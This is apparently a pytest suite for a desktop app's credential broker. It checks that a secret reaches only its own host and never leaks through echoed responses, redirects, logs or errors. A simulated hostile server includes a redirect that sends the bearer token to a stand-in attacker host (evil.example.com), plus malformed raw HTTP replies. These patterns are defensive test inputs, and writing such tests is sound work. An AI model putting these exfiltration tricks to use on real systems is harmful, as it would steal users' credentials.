"""R15 and R21: a secret goes into the one request that it is for, and comes back in nothing."""

from __future__ import annotations

import base64
import gzip
import logging
from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from hostile_web import Exchange, FakeNet, HostileServer, KeptSecrets, certificate, client_side, server_side

from openclaw_desktop.core.errors import UserError
from openclaw_desktop.core.protocols import WebRequest, WebResponse
from openclaw_desktop.security.broker.dialling import Dialler
from openclaw_desktop.security.broker.fetching import Broker

HOST, OTHER = "api.example.com", "other.example.com"
URL = f"https://{HOST}/"
CANARY = "sk-canary+9f3e/Q&7"
SECRETS = KeptSecrets({("api", HOST): CANARY, ("pin", HOST): "12", ("own", "127.0.0.1"): CANARY})


@pytest.fixture
def net(monkeypatch: pytest.MonkeyPatch) -> FakeNet:
    return FakeNet(monkeypatch)


async def ask(
    net: FakeNet, folder: Path, answer: Callable[[Exchange], Awaitable[None]], *hosts: str, **more: object
) -> tuple[WebResponse | UserError, list[Exchange]]:
    place = certificate(folder, HOST, OTHER)
    async with HostileServer(answer, server_side(place)) as server:
        net.put(HOST, 443, server.port)
        net.put(OTHER, 443, server.port, "93.184.215.15")
        broker = Broker(Dialler(SECRETS, resolve=net.resolve, trust=client_side(place)))
        fields: dict[str, object] = {"url": URL, "secrets": {"Authorization": "Bearer secret:api"}, **more}
        try:
            return await broker(WebRequest(**fields), hosts or (HOST,)), server.seen  # type: ignore[arg-type]
        except UserError as error:
            return error, server.seen


@pytest.mark.parametrize(
    ("reference", "sent"),
    [
        ("secret:api", CANARY),
        ("Bearer secret:api", f"Bearer {CANARY}"),
        (
            "Basic me@home.example:secret:api",
            "Basic " + base64.b64encode(f"me@home.example:{CANARY}".encode()).decode(),
        ),
    ],
)
async def test_r15_a_secret_is_put_into_the_request(net: FakeNet, tmp_path: Path, reference: str, sent: str) -> None:
    answer, seen = await ask(net, tmp_path, lambda e: e.say("fine"), secrets={"Authorization": reference})
    assert isinstance(answer, WebResponse) and answer.body == b"fine"
    assert seen[0].headers["authorization"] == sent


ECHOES: dict[str, Callable[[str], bytes]] = {
    "as it is": lambda sent: sent.encode(),
    "twice": lambda sent: f"{sent} {sent}".encode(),
    "json": lambda sent: b'{"you sent": "%s"}' % sent.replace("/", "\\/").replace("\\/", "/").encode(),
    "html": lambda sent: sent.replace("&", "&amp;").encode(),
    "url": lambda sent: sent.replace("+", "%2B").replace("/", "%2F").replace("&", "%26").encode(),
    "base64": lambda sent: base64.b64encode(sent.encode()),
    "base64 within": lambda sent: base64.b64encode(f"x{sent}y".encode()),
    "hex": lambda sent: sent.encode().hex().encode(),
    "utf-16": lambda sent: sent.encode("utf-16-le"),
    "backwards": lambda sent: sent[::-1].encode(),
}


def leaks(data: bytes) -> bool:
    """True where somebody could read the canary in `data` again."""
    forms = {CANARY, CANARY[::-1], CANARY.replace("&", "&amp;"), "sk-canary%2B9f3e%2FQ%267", CANARY.encode().hex()}
    inner = {base64.b64encode(b"\0" * n + CANARY.encode()).decode()[4:20] for n in range(3)}
    return any(form.encode(code) in data for form in forms | inner for code in ("utf-8", "utf-16-le"))


@pytest.mark.parametrize("kind", ECHOES)
@pytest.mark.parametrize("packed", [False, True])
async def test_r15_a_server_that_repeats_it_tells_the_model_nothing(
    net: FakeNet, tmp_path: Path, kind: str, packed: bool
) -> None:
    async def echo(exchange: Exchange) -> None:
        said = ECHOES[kind](exchange.headers["authorization"])
        assert leaks(said)
        body = b"a" * 100 + said + b"z" * 100
        extra = {"Content_Encoding": "gzip"} if packed else {}
        await exchange.say(gzip.compress(body) if packed else body, X_Echo=exchange.headers["authorization"], **extra)

    answer, _ = await ask(net, tmp_path, echo)
    assert isinstance(answer, WebResponse)
    assert not leaks(answer.body)
    assert answer.body.startswith(b"a" * 100) and answer.body.endswith(b"z" * 100)
    assert answer.headers["x-echo"] == "Bearer [secret:api]"


async def test_r15_it_is_not_cut_in_two_at_the_limit(net: FakeNet, tmp_path: Path) -> None:
    for limit in range(90, 125):
        answer, _ = await ask(
            net, tmp_path, lambda e: e.say(b"a" * 95 + e.headers["authorization"].encode()), limit_bytes=limit
        )
        assert isinstance(answer, WebResponse) and len(answer.body) <= limit
        assert CANARY[:4].encode() not in answer.body


@pytest.mark.parametrize(("place", "status"), [(OTHER, 302), (OTHER, 307), (f"{HOST}:8443", 302), (f"{HOST}:80", 302)])
async def test_r15_it_follows_to_no_other_place(net: FakeNet, tmp_path: Path, place: str, status: int) -> None:
    async def answer(exchange: Exchange) -> None:
        if exchange.headers["host"] == HOST:
            await exchange.say(status=status, Location=f"https://{place}/x?k={exchange.headers['authorization'][7:]}")
        else:
            await exchange.say("there")

    headers = {"Cookie": "a=b", "X-Other": "stays"}
    reply, seen = await ask(net, tmp_path, answer, HOST, OTHER, headers=headers)
    assert [exchange.headers.get("authorization") for exchange in seen[1:]] in ([], [None])
    if place == OTHER:
        assert "cookie" not in seen[1].headers and seen[1].headers["x-other"] == "stays"
        assert isinstance(reply, WebResponse) and not leaks(reply.url.encode())
    else:
        assert isinstance(reply, UserError) and not leaks(repr(vars(reply)).encode())


async def test_r15_it_follows_within_its_own_place(net: FakeNet, tmp_path: Path) -> None:
    async def answer(exchange: Exchange) -> None:
        await (exchange.say(status=302, Location="/next") if exchange.path == "/" else exchange.say("there"))

    _, seen = await ask(net, tmp_path, answer)
    assert [exchange.headers["authorization"] for exchange in seen] == [f"Bearer {CANARY}"] * 2


async def test_r15_it_is_for_its_host_alone(net: FakeNet, tmp_path: Path) -> None:
    error, seen = await ask(net, tmp_path, lambda e: e.say(""), OTHER, url=f"https://{OTHER}/")
    assert isinstance(error, UserError) and error.failure.code == "secret_bound" and seen == []


async def test_r15_a_secret_that_is_not_there_sends_nothing(net: FakeNet, tmp_path: Path) -> None:
    error, seen = await ask(net, tmp_path, lambda e: e.say(""), secrets={"X": "secret:none"})
    assert isinstance(error, UserError) and error.failure.code == "no_secret" and seen == []


async def test_r15_it_goes_unencrypted_to_this_machine_alone(net: FakeNet, tmp_path: Path) -> None:
    async with HostileServer(lambda e: e.say("hello")) as server:
        net.put(HOST, 80, server.port)
        broker = Broker(Dialler(SECRETS, resolve=net.resolve))
        with pytest.raises(UserError) as caught:
            await broker(WebRequest(f"http://{HOST}/", secrets={"X": "secret:api"}), (f"{HOST}:80",))
        assert caught.value.failure.code == "unencrypted" and server.seen == []
        own = f"127.0.0.1:{server.port}"
        await broker(WebRequest(f"http://{own}/", secrets={"X": "secret:own"}), (own,))
        assert server.seen[0].headers["x"] == CANARY


@pytest.mark.parametrize(
    "answer",
    [
        lambda e: e.say(e.headers["authorization"], X_A=e.headers["authorization"]),
        lambda e: e.say(status=302, Location="https://evil.example.com/" + e.headers["authorization"][7:]),
        lambda e: e.raw(e.headers["authorization"].encode() * 10 + b"\r\n\r\n"),
        lambda e: e.raw(b"HTTP/1.1 200 OK\r\nContent-Length: 99999\r\n\r\n" + e.headers["authorization"].encode()),
        lambda e: e.say(e.headers["authorization"], Content_Encoding=e.headers["authorization"]),
    ],
)
async def test_r21_nothing_is_logged_and_no_error_tells_it(
    net: FakeNet, tmp_path: Path, caplog: pytest.LogCaptureFixture, answer: Callable[[Exchange], Awaitable[None]]
) -> None:
    caplog.set_level(logging.DEBUG)
    for name in ("httpcore", "httpcore.http11", "httpcore.connection"):
        logging.getLogger(name).setLevel(logging.NOTSET)
    reply, _ = await ask(net, tmp_path, answer)
    assert not leaks(caplog.text.encode()) and HOST not in caplog.text
    chain, error = [], reply if isinstance(reply, BaseException) else None
    while error is not None:
        chain.append(repr(error) + repr(vars(error)))
        error = error.__cause__
    shown = repr(reply) + "".join(chain)
    assert not leaks(shown.encode())
